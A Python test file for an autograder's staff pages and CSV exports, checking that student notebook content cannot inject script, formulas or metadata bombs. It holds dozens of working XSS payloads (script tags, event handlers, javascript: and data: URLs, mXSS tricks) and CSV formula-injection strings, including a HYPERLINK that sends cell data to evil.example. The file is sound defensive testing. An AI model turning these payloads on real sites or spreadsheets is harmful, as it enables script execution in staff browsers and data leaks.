"""Staff pages built from student content: XSS payloads stay inert, CSV cells never become formulas,
submission metadata cannot blow up or crash the roster, report histograms count whole students.

The corpus: one submission per payload (markdown cells, raw HTML in markdown, math, outputs of every
mime type, attachments, cell and notebook metadata, student names and file names), all rendered by
``written`` into the per-student and per-question pages; every page is parsed and must hold no
script element, no ``on*`` attribute, no ``javascript:``/``vbscript:`` or non-image ``data:`` URL,
no frame, object, embed, form, base, link, meta or style beyond the page's own. Where Chromium is
installed, the question pages are also opened in it with scripts allowed and the page's CSP taken
out: no payload may have run (each one marks the document when it runs).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
import subprocess
import tempfile
import time
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path

import pytest

from autograder import cli, csvsafe, written
from autograder.gradebook import Gradebook
from autograder.roster import METADATA, RosterError, read_metadata
from tests.instructors_class import figure_png

JS = "document.documentElement.setAttribute('data-xss','ran')"  # what every payload tries to run
B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731
SVG_SCRIPT = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script>'
              f'<foreignObject><img src=x onerror="{JS}"></foreignObject><circle r="4"/></svg>')


def md(text, **extra):
    return {"cell_type": "markdown", "metadata": extra.pop("metadata", {}), "source": text, **extra}


def code(text, outputs=(), metadata=None):
    return {"cell_type": "code", "metadata": metadata or {}, "execution_count": 1, "source": text,
            "outputs": list(outputs)}


def display(data, metadata=None):
    return {"output_type": "display_data", "metadata": metadata or {}, "data": data}


# name -> the cells of the answer to written_adamw (the marker line is added), and cells before it
PAYLOADS: dict[str, dict] = {
    "md_script": {"answer": [md(f"<script>{JS}</script>")]},
    "md_img_onerror": {"answer": [md(f'<img src=x onerror="{JS}">')]},
    "md_svg_onload": {"answer": [md(f'<svg onload="{JS}"><rect width=5 height=5 /></svg>')]},
    "md_svg_script": {"answer": [md(f"<svg><script>{JS}</script><circle r=3 /></svg>")]},
    "md_iframe_srcdoc": {"answer": [md(f'<iframe srcdoc="<script>{JS}</script>"></iframe>')]},
    "md_link_javascript": {"answer": [md(f"[click me](javascript:{JS})")]},
    "md_href_entities": {"answer": [md(f'<a href="&#106;avascript&#58;{JS}">x</a> '
                                       f'<a href="&#x6A;ava&#x09;script:{JS}">y</a>')]},
    "md_href_whitespace": {"answer": [md(f'<a href=" \x01java\nscript:{JS}">x</a> <a href="JaVaScRiPt:{JS}">z</a>')]},
    "md_vbscript": {"answer": [md('<a href="vbscript:msgbox(1)">x</a> <img src="vbscript:msgbox(1)">')]},
    "md_data_html": {"answer": [md(f'<a href="data:text/html;base64,{B64("<script>" + JS + "</script>")}">x</a>'
                                   f'<img src="data:image/svg+xml;base64,{B64(SVG_SCRIPT)}">')]},
    "md_object_embed": {"answer": [md(f'<object data="javascript:{JS}"></object><embed src="javascript:{JS}">'
                                      '<applet code="x"></applet>')]},
    "md_form": {"answer": [md(f'<form action="javascript:{JS}"><input name=a autofocus onfocus="{JS}">'
                              f'<button formaction="javascript:{JS}">go</button></form>')]},
    "md_meta_refresh": {"answer": [md(f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">')]},
    "md_base_link_style": {"answer": [md('<base href="https://evil.example/"><link rel=stylesheet '
                                         'href="https://evil.example/x.css"><style>@import "https://evil.example/'
                                         f'y.css"; body{{background:url("javascript:{JS}")}}</style>')]},
    "md_style_overlay": {"answer": [md('<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
                                       'background:url(https://evil.example/p.png);z-index:9">Student 3 wrote '
                                       'nothing</div>')]},
    "md_math_html": {"answer": [md(f"$\\text{{<img src=x onerror=\"{JS}\">}}$ and "
                                   f"$$\\text{{<script>{JS}</script>}}$$")]},
    "md_math_href": {"answer": [md(f"$\\href{{javascript:{JS}}}{{click}}$")]},
    "md_mathml_raw": {"answer": [md(f'<math><maction actiontype="statusline" href="javascript:{JS}"><mtext>x'
                                    f"</mtext></maction><mtext><table><mglyph><style><img src=x onerror=\"{JS}\">"
                                    "</style></mglyph></table></mtext></math>")]},
    "md_svg_animate": {"answer": [md(f'<svg><a><animate attributeName="href" values="javascript:{JS}"/>'
                                     f'<set attributeName="onmouseover" to="{JS}"/><text y="20">hover</text></a>'
                                     '<use href="data:image/svg+xml;base64,' + B64(SVG_SCRIPT) + '#x"/></svg>')]},
    "md_noscript_mxss": {"answer": [md(f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>')]},
    "md_comment_tricks": {"answer": [md(f'<!--><img src=x onerror="{JS}">--> <!-- --!><img src=x '
                                        f'onerror="{JS}"> --> <![CDATA[><img src=x onerror="{JS}">]]>')]},
    "md_break_out": {"answer": [md(f"</div></section></body><img src=x onerror=\"{JS}\"><div><table><tr><td>"
                                   "unclosed")]},
    "md_template_title": {"answer": [md(f'<template><img src=x onerror="{JS}"></template><title><img src=x '
                                        f'onerror="{JS}"></title><textarea><img src=x onerror="{JS}"></textarea>')]},
    "md_attribute_quote": {"answer": [md(f'<img src="x" alt=\'a" onerror="{JS}\'> <p title="&quot; '
                                         f'onmouseover=&quot;{JS}">q</p>')]},
    "md_heading_html": {"answer": [md(f'# <img src=x onerror="{JS}">\n\n## <script>{JS}</script>')]},
    "md_mermaid_fence": {"answer": [md(f'```mermaid\n<img src=x onerror="{JS}">\n```\n\n```html\n<script>{JS}'
                                       "</script>\n```")]},
    "md_uppercase_tags": {"answer": [md(f'<SCRIPT>{JS}</SCRIPT><IMG SRC=x ONERROR="{JS}"><sCrIpT/x>{JS}</sCrIpT>'
                                        f'<svg/onload="{JS}">')]},
    "md_parser_differentials": {"answer": [md(f'<img/src="x"/onerror="{JS}"> <details open ontoggle="{JS}">d'
                                              f'</details> <x onclick="{JS}">y</x> <select><option><img src=x '
                                              f'onerror="{JS}"></option></select>')]},
    "md_markdown_links": {"answer": [md(f"<javascript:{JS}> [x](data:text/html,<script>{JS}</script>) "
                                        f"![t](https://evil.example/t.png) [y](  javascript:{JS})")]},
    "out_text_html": {"answer": [code("df", [display({"text/html": f"<script>{JS}</script><img src=x onerror="
                                                                   f'"{JS}"><b>ok</b>'})])]},
    "out_javascript": {"answer": [code("js", [display({"application/javascript": JS}),
                                              display({"text/javascript": JS})])]},
    "out_widget": {"answer": [code("w", [display({"application/vnd.jupyter.widget-view+json":
                                                  {"model_id": "x", "version_major": 2, "version_minor": 0}})])]},
    "out_svg": {"answer": [code("svg", [display({"image/svg+xml": SVG_SCRIPT})])]},
    "out_markdown_latex": {"answer": [code("m", [display({"text/markdown": f'<img src=x onerror="{JS}">'}),
                                                 display({"text/latex": f"$\\href{{javascript:{JS}}}{{x}}$ "
                                                                        f"<script>{JS}</script>"})])]},
    "out_png_breakout": {"answer": [code("p", [display({"image/png": f'"><script>{JS}</script>'}),
                                               display({"image/jpeg": f"x\" onerror=\"{JS}"})])]},
    "out_stream_error": {"answer": [code("s", [
        {"output_type": "stream", "name": "stdout", "text": f"<script>{JS}</script>"},
        {"output_type": "error", "ename": "<img src=x>", "evalue": "e",
         "traceback": [f"\x1b[31m<img src=x onerror=\"{JS}\">\x1b[0m"]}])]},
    "out_hostile_mime_key": {"answer": [code("k", [display({f'text/x"><script>{JS}</script>': "x"})])]},
    "out_figure_with_html": {  # a figure cell before the answer: its HTML part is never preferred
        "before": [code("plt.show()", [display({"image/png": "PNG", "text/html": f"<script>{JS}</script>"})])],
        "answer": [md("See the figure.")]},
    "attachments": {"answer": [md("![a](attachment:evil.html) ![b](attachment:evil.svg) ![c](attachment:none.png)",
                                  attachments={"evil.html": {"text/html": B64(f"<script>{JS}</script>")},
                                               "evil.svg": {"image/svg+xml": B64(SVG_SCRIPT)}})]},
    "cell_metadata": {"answer": [md("metadata", metadata={"tags": [f"<script>{JS}</script>", "remove_input"],
                                                          "title": f'<img src=x onerror="{JS}">',
                                                          "jupyter": {"source_hidden": True}})],
                      "notebook_metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {
                          "state": {}, "x": f"</script><script>{JS}</script>"}},
                                            "title": f"<script>{JS}</script>"}},
}
HOSTILE_NAMES = {  # submission folder -> the name Gradescope's metadata gives
    "md_script": f'<img src=x onerror="{JS}">',
    "md_img_onerror": '=HYPERLINK("https://evil.example/?"&A1, "Click for your grade")',
    "md_svg_onload": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LEGIT = {"answer": [
    md("The loss is $x^2$ and $$\\sum_{i=1}^n \\frac{a_i}{\\sqrt{v_i}}$$\n\n```python\nprint('kept code')\n```\n\n"
       "| lr | loss |\n|---|---|\n| 0.1 | 1.5 |", attachments={}),
    code("df", [display({"text/html": "<table class='dataframe' border='1'><thead><tr><th>lr</th><th>loss</th>"
                                      "</tr></thead><tbody><tr><td>0.01</td><td>2.25</td></tr></tbody></table>",
                         "text/plain": "df"})])],
    "before": [code("plt.show()", [display({"image/png": "PNG", "text/plain": "<Figure>"})])]}
FILE_NAME_PAYLOAD = f'<svg onload="{JS}">'  # a submission folder named like this


def _nb(spec: dict, png: str) -> dict:
    """The submission of a payload: the cells before the answer, the answer to written_adamw (marker line
    added), and a second answer cell, when there is one, as the answer to written_ns."""
    fix = lambda cells: json.loads(json.dumps(cells).replace('"PNG"', json.dumps(png)))  # noqa: E731
    before, answer = fix(spec.get("before", [])), fix(spec["answer"])
    cells = [*before, {**answer[0], "source": "# GRADED: written_adamw\n" + answer[0]["source"]}]
    if len(answer) > 1:
        cells.append({**answer[1], "source": "# GRADED: written_ns\n" + answer[1]["source"]})
    return {"cells": cells, "metadata": spec.get("notebook_metadata", {}), "nbformat": 4, "nbformat_minor": 5}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """A Gradescope-shaped class, one submission per payload, plus a legitimate one."""
    root = tmp_path_factory.mktemp("xss") / "export"
    png = base64.b64encode(figure_png()).decode()
    for name, spec in {**PAYLOADS, "legit": LEGIT, FILE_NAME_PAYLOAD: {"answer": [md("named folder")]}}.items():
        (root / name).mkdir(parents=True)
        (root / name / "optimizers.ipynb").write_text(json.dumps(_nb(spec, png)))
    import yaml

    meta = {name: {":submitters": [{":name": HOSTILE_NAMES.get(name, name), ":sid": "1", ":email": "a@b.c"}],
                   ":created_at": "2026-09-18 22:01:05.123456789 -0700"} for name in [*PAYLOADS, "legit"]}
    (root / METADATA).write_text(yaml.safe_dump(meta))
    return root


@pytest.fixture(scope="module")
def rendered(corpus, optimizers, tmp_path_factory):
    out = tmp_path_factory.mktemp("xss-out")
    anon = written.render_written(optimizers, corpus, out / "anon", pdf=False)
    named = written.render_written(optimizers, corpus, out / "named", anonymise=False, pdf=False)
    assert anon["students"] == named["students"] == len(PAYLOADS) + 2 and not anon["problems"], anon["message"]
    return out


def test_corpus_is_big_enough():
    assert len(PAYLOADS) >= 25 and sum(JS in json.dumps(spec) for spec in PAYLOADS.values()) >= 25


class _Audit(HTMLParser):
    """Every element and attribute of a page, as a parser sees them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


FORBIDDEN = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
             "base", "link", "template", "foreignobject", "animate", "set", "noscript", "textarea"}


def inert_problems(page: str) -> list[str]:
    """What in ``page`` could run, load, or navigate to script; [] for an inert page."""
    problems = []
    audit = _Audit()
    audit.feed(page)
    audit.close()
    own = {"meta": 3, "style": 1, "title": 1}  # the page's own head: charset, CSP, referrer; its CSS; its title
    for tag, attrs in audit.tags:
        if tag in FORBIDDEN:
            problems.append(f"<{tag}>")
        if tag in own:
            own[tag] -= 1
            if own[tag] < 0:
                problems.append(f"a second <{tag}>")
        for k, v in attrs.items():
            if tag == "meta" and k == "content" and attrs.get("http-equiv") == "Content-Security-Policy":
                continue  # the policy names data: (images only); a second <meta> is caught above
            flat = re.sub(r"[\x00-\x20]", "", v).lower()
            if k.startswith("on"):
                problems.append(f"<{tag} {k}=...>")
            if "javascript:" in flat or "vbscript:" in flat:
                problems.append(f"<{tag} {k}={v[:40]!r}>")
            if "data:" in flat and not re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]+", flat):
                problems.append(f"<{tag} {k}=data:...{flat[5:30]!r}>")
            if k in ("href", "src", "xlink:href", "action", "formaction", "srcdoc") and \
                    re.match(r"(https?:)?//", flat) and not (tag == "a" and k == "href"):
                problems.append(f"<{tag} {k}> loads {v[:40]!r}")
            if k == "style" and re.search(r"url\(|position|@import|expression", flat):
                problems.append(f"<{tag} style={v[:40]!r}>")
    # the raw markup too (no parser in between): every '<' of a page is a tag's (text escapes it) and every
    # attribute value is double-quoted with '<', '>' and '"' escaped, so a tag without its values shows its names
    tags = [re.sub(r'"[^"]*"', '""', t) for t in re.findall(r"<[^>]*>", page)]
    if re.search(r"<\s*/?\s*script", page, re.I) or any(re.search(r"[\s/]on[a-z]+\s*=", t, re.I) for t in tags):
        problems.append("raw <script or on*= in the markup")
    head = page.split("<body>", 1)[0]
    if "Content-Security-Policy" not in head or "default-src 'none'" not in head:
        problems.append("no CSP")
    return problems


def test_every_payload_is_inert_in_every_page(rendered):
    pages = sorted(rendered.glob("*/students/*.html")) + sorted(rendered.glob("*/questions/*.html")) + \
        sorted(rendered.glob("*/index.html"))
    assert len(pages) == 2 * (len(PAYLOADS) + 2 + 3 + 1)
    for page in pages:
        assert inert_problems(page.read_text()) == [], page


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_each_payload_page(rendered, name):
    """Per payload: its student page is inert and still shows the student's text around the payload."""
    page = (rendered / "anon" / "students" / f"{written._safe(name)}.html").read_text()
    assert inert_problems(page) == []
    assert page.count("<section") == 3 and page.count("</section>") == 3  # nothing escaped its section
    assert "GRADED: written_adamw" not in page  # the marker line of the answer is not rendered


def test_the_checker_catches_what_it_should():
    base = written.document("t", "{}")
    for bad in (f"<script>{JS}</script>", f'<img src=x onerror="{JS}">', f'<a href="javascript:{JS}">x</a>',
                '<img src="data:text/html;base64,AAAA">', '<iframe></iframe>', '<div style="position:fixed">x</div>'):
        assert inert_problems(base.replace("{}", bad)), bad
    assert inert_problems(base.replace("{}", "<p>fine</p>")) == []


def test_legitimate_content_is_kept(rendered):
    page = (rendered / "named" / "students" / "legit.html").read_text()
    assert page.count('<img alt="figure" src="data:image/png;base64,') == 1  # the figure before the answer
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in page  # $x^2$ as MathML
    assert "<mfrac>" in page and "<msqrt>" in page and "<munderover>" in page  # the display formula
    assert "print(&#x27;kept code&#x27;)" in page or "print('kept code')" in page
    assert "<th>lr</th>" in page and "<td>2.25</td>" in page and "<td>1.5</td>" in page  # tables kept
    assert 'class="dataframe" border="1"' in page
    for name in ("md_style_overlay", "md_break_out", "out_text_html", "out_javascript", "out_hostile_mime_key"):
        other = (rendered / "named" / "students" / f"{name}.html").read_text()
        assert inert_problems(other) == []
    overlay = (rendered / "named" / "students" / "md_style_overlay.html").read_text()
    assert "Student 3 wrote nothing" in overlay and "position" not in overlay.split("<body>")[1]
    js = (rendered / "named" / "students" / "out_javascript.html").read_text()
    assert "application/javascript" in js and "is not shown" in js
    html_out = (rendered / "named" / "students" / "out_text_html.html").read_text()
    assert "<b>ok</b>" in html_out  # the HTML output, sanitised, not dropped


def test_names_and_file_names_are_text(rendered):
    named = (rendered / "named" / "questions" / "written_adamw.html").read_text()
    assert "| &lt;img src=x onerror=&quot;document" in named  # the hostile name, as text
    assert written._safe(FILE_NAME_PAYLOAD) + ".html" in [p.name for p in (rendered / "named" / "students").iterdir()]
    with open(rendered / "named" / "key.csv", newline="") as f:
        key = {r["student"]: r for r in csv.DictReader(f)}
    assert key["md_img_onerror"]["name"].startswith("'=HYPERLINK(")
    assert key["md_svg_onload"]["name"].startswith("'@SUM(")


def _chromium_dom(page: Path, browser: str) -> str:
    with tempfile.TemporaryDirectory() as profile:
        args = [browser, "--headless", "--disable-gpu", "--no-first-run", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", f"--user-data-dir={profile}",
                "--virtual-time-budget=3000", "--dump-dom", page.resolve().as_uri()]
        if written.os.geteuid() == 0:
            args.insert(1, "--no-sandbox")
        return subprocess.run(args, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL).stdout


@pytest.mark.skipif(written.find_chromium() is None, reason="no Chromium installed here: the browser check is "
                    "not run (the parser checks above still are)")
def test_no_payload_runs_in_chromium_even_without_the_csp(rendered, tmp_path):
    """The sanitiser alone (CSP taken out, scripts on) keeps every payload from running in a real browser."""
    browser = written.find_chromium()
    canary = tmp_path / "canary.html"  # the check itself works: this page's script does run
    canary.write_text(f"<!doctype html><html><body><script>{JS}</script></body></html>")
    assert 'data-xss="ran"' in re.search(r"<html[^>]*>", _chromium_dom(canary, browser)).group(0)
    for q in ("written_adamw", "written_ns"):
        for mode in ("anon", "named"):
            text = (rendered / mode / "questions" / f"{q}.html").read_text()
            bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
            assert bare != text
            page = tmp_path / f"{mode}-{q}.html"
            page.write_text(bare)
            dom = _chromium_dom(page, browser)
            html_tag = re.search(r"<html[^>]*>", dom)  # where a payload that ran leaves its mark
            assert "Written question" in dom and html_tag and "data-xss" not in html_tag.group(0), page


# ------------------------------------------------------------------------------------------- CSV cells

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"grade")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
           "\t=1+1", "\r=1+1", "=1+1@uni.edu", "-1+1"]


def test_csvsafe_cells():
    for h in HOSTILE:
        assert csvsafe.cell(h) == "'" + h
    assert csvsafe.cell(-1.5) == -1.5 and csvsafe.cell(3) == 3 and csvsafe.cell("-1.50") == "-1.50"
    assert csvsafe.cell("+2") == "+2" and csvsafe.cell("1e-3") == "1e-3" and csvsafe.cell(None) == ""
    assert csvsafe.cell("Ann O'Neil") == "Ann O'Neil" and csvsafe.cell("a=b") == "a=b"
    buf = io.StringIO()
    csvsafe.writer(buf).writerow(["=1", -0.5, "-0.50", "ok"])
    csvsafe.writer(csv.writer(buf)).writerow(["@x"])
    assert buf.getvalue().splitlines() == ["'=1,-0.5,-0.50,ok", "'@x"]


def _formula_cells(path: Path) -> list[str]:
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    return [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not
            re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]


def test_hostile_roster_in_every_csv(optimizers, tmp_path, monkeypatch, course_toml):
    """grades.csv, lms.csv and key.csv of a class whose names, emails and SIDs are formulas."""
    from autograder.roster import COURSE_ENV, export
    from autograder.scores import lms_csv

    monkeypatch.setenv(COURSE_ENV, str(course_toml))
    root = tmp_path / "grades"
    out = root / "optimizers"
    book = Gradebook(out / "gradebook.sqlite")
    for i, h in enumerate(HOSTILE):
        student = f"submission_{i}"
        book.put("optimizers", {"student": student, "sha256": "x", "score": 1.0, "max_score": 16.0,
                                "questions": {"sgd": {"score": 2.0}}, "results": {}, "seconds": 1.0,
                                "errors": ["=cmd|' /C calc'!A0 raised in the notebook"], "flags": ["@flag"]})
        book.set_identity("optimizers", student, name=h, email=h, sid=HOSTILE[-1 - i], submitted_at="")
    book.set_override("optimizers", "submission_0", "adam", -1.5, "=reason", "-author")
    book.commit()
    book.close()
    grades = export(optimizers, out)
    lms = lms_csv(root, root / "lms.csv")
    assert _formula_cells(grades) == [] and _formula_cells(lms) == []
    with open(grades, newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert rows["submission_0"]["name"] == "'" + HOSTILE[0] and rows["submission_4"]["email"] == "'\t=1+1"
    assert rows["submission_0"]["sgd"] == "2.00" and rows["submission_0"]["errors"].startswith("'=cmd")
    assert rows["submission_1"]["flags"] == "'@flag"
    with open(lms, newline="") as f:
        lms_rows = list(csv.DictReader(f))
    assert {r["Student"] for r in lms_rows} == {"'" + h for h in HOSTILE}

    folder = tmp_path / "export"  # key.csv of `written`, from the same names in Gradescope's metadata
    import yaml

    meta = {}
    for i, h in enumerate(HOSTILE):
        (folder / f"submission_{i}").mkdir(parents=True)
        (folder / f"submission_{i}" / "optimizers.ipynb").write_text(json.dumps(
            {"cells": [md("# GRADED: written_ns\nanswer")], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
        meta[f"submission_{i}"] = {":submitters": [{":name": h, ":sid": HOSTILE[-1 - i], ":email": h}]}
    (folder / METADATA).write_text(yaml.safe_dump(meta))
    written.render_written(optimizers, folder, tmp_path / "w", anonymise=False, pdf=False)
    key = tmp_path / "w" / "key.csv"
    assert _formula_cells(key) == [] and "'=HYPERLINK" in key.read_text()


# ------------------------------------------------------------------------------------------- metadata

BOMB = Path(__file__).parent / "adversarial" / "staff_alias_bomb.yml"


def test_alias_bomb_is_refused_fast(tmp_path):
    assert BOMB.stat().st_size <= 450  # 10 ** 9 strings when expanded
    shutil.copy(BOMB, tmp_path / METADATA)
    tracemalloc.start()
    t0 = time.perf_counter()
    with pytest.raises(RosterError) as e:
        read_metadata(tmp_path)
    seconds = time.perf_counter() - t0
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert seconds < 2 and peak < 20 << 20, (seconds, peak)
    msg = str(e.value)
    assert "\n" not in msg and str(tmp_path / METADATA) in msg and "aliases" in msg


@pytest.mark.parametrize(("text", "what"), [
    ("- a\n- b\n", "expected a mapping of submissions"),
    ("submission_1: [1, 2]\n", "is a list, not a mapping"),
    ("submission_1: just a string\n", "is a str, not a mapping"),
    ("submission_1:\n  :submitters: {name: x}\n", "submitters of 'submission_1' is a dict, not a list"),
    ("submission_1:\n  :submitters: [ann]\n", "a submitter of 'submission_1' is a str, not a mapping"),
    ("submission_1:\n  :submitters:\n  - :name: [a, b]\n", "the name of a submitter of 'submission_1' is a list"),
    ("submission_1:\n  :created_at: yesterday\n", "created_at of 'submission_1'"),
    ("submission_1: {a: 1\n", "is not valid YAML"),
    ("a: &x 1\nb: *x\n", "anchors and aliases"),
    ("a: " + "[" * 40 + "]" * 40 + "\n", "nested more than"),
    ("submission_1:\n  :submitters:\n  - :name: " + "x" * 5000 + "\n", "5000 characters long"),
])
def test_bad_metadata_is_one_clear_line(tmp_path, text, what):
    (tmp_path / METADATA).write_text(text)
    with pytest.raises(RosterError) as e:
        read_metadata(tmp_path)
    msg = str(e.value)
    assert what in msg and str(tmp_path / METADATA) in msg and "\n" not in msg, msg


def test_huge_metadata_file_is_refused_before_parsing(tmp_path):
    with open(tmp_path / METADATA, "w") as f:
        f.write("submission_1:\n  :submitters:\n  - :name: '" + "x" * (9 << 20) + "'\n")
    t0 = time.perf_counter()
    with pytest.raises(RosterError, match="more than the 8 MiB"):
        read_metadata(tmp_path)
    assert time.perf_counter() - t0 < 1


def test_bad_metadata_through_the_commands(optimizers, tmp_path, capsys):
    (tmp_path / "export" / "submission_1").mkdir(parents=True)
    shutil.copy(BOMB, tmp_path / "export" / METADATA)
    assert cli.main(["written", "optimizers", str(tmp_path / "export"), "--out", str(tmp_path / "w"),
                     "--no-pdf"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: ") and "aliases" in err and len(err.splitlines()) == 1


def test_bad_metadata_stops_grading_before_the_batch(optimizers, tmp_path, monkeypatch, capsys):
    import autograder.batch

    (tmp_path / "export" / "submission_1").mkdir(parents=True)
    shutil.copy(BOMB, tmp_path / "export" / METADATA)
    monkeypatch.setattr(autograder.batch, "grade_folder", lambda *a, **k: pytest.fail("the batch ran"))
    assert cli.main(["grade", "optimizers", str(tmp_path / "export"), "--out", str(tmp_path / "g")]) == 2
    err = capsys.readouterr().err.strip()
    assert "aliases" in err and str(tmp_path / "export" / METADATA) in err and len(err.splitlines()) == 1


def test_a_gradescope_export_still_reads(tmp_path, optimizers):
    from tests.instructors_class import STUDENTS, build_class

    meta = read_metadata(build_class(optimizers, tmp_path / "export"))
    assert {k: (v["name"], v["sid"], v["email"]) for k, v in meta.items()} == {
        k: v[:3] for k, v in STUDENTS.items()}
    assert all(v["submitted_at"].startswith("2026-09-") for v in meta.values())
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / METADATA).write_text(  # as Gradescope writes it: symbols, an int SID, a YAML time, a group
        "submission_9:\n  :submitters:\n  - :name: Zoë Ünal\n    :sid: 3099\n    :email: z@uni.edu\n"
        "  - :name: Yan\n    :sid: '007'\n    :email: y@uni.edu\n  :created_at: 2026-09-18 10:00:00 Z\n"
        "  :score: 12.5\n  :status: graded\n  :extra: {nested: [1, 2, {x: y}]}\n"
        "submission_10:\n")
    meta = read_metadata(tmp_path / "m")
    assert meta["submission_9"] == {"name": "Zoë Ünal & Yan", "email": "z@uni.edu & y@uni.edu", "sid": "3099 & 007",
                                    "submitted_at": "2026-09-18T10:00:00+00:00"}
    assert meta["submission_10"] == {"name": "", "email": "", "sid": "", "submitted_at": ""}


# ------------------------------------------------------------------------------------------- report

def test_histogram_axes_are_whole_numbers():
    from autograder.report import _plt, histogram

    plt = _plt()
    for values, top in (([13.0, 12.5, 13.0, 0.0, 9.75], 16), ([0.5, 1.0], 3), ([120.5, 300.25, 410.0], 448)):
        fig, ax = plt.subplots()
        histogram(ax, values, top, "Totals")
        fig.canvas.draw()
        heights = [p.get_height() for p in ax.patches]
        assert sum(heights) == len(values)
        assert all(float(t).is_integer() for t in ax.get_yticks()), ax.get_yticks()
        assert all(float(t).is_integer() for t in ax.get_xticks()), ax.get_xticks()
        lefts = [p.get_x() for p in ax.patches]
        assert all(float(x).is_integer() for x in lefts) and len(lefts) <= 41
        assert ax.get_xlim()[0] == 0 and ax.get_xlim()[1] >= top
        plt.close(fig)


def test_report_pages_have_the_csp(graded_class, tmp_path, term):
    folder, root, out = graded_class
    assert cli.main(["report", "optimizers", "--grades", str(out), "--out", str(tmp_path / "r")]) == 0
    assert cli.main(["report", "--course", "--root", str(root), "--out", str(tmp_path / "c")]) == 0
    for page in (tmp_path / "r" / "index.html", tmp_path / "c" / "index.html"):
        text = page.read_text()
        assert text.index("Content-Security-Policy") < text.index("<title>")
        audit = _Audit()
        audit.feed(text)
        assert not {t for t, _ in audit.tags} & FORBIDDEN
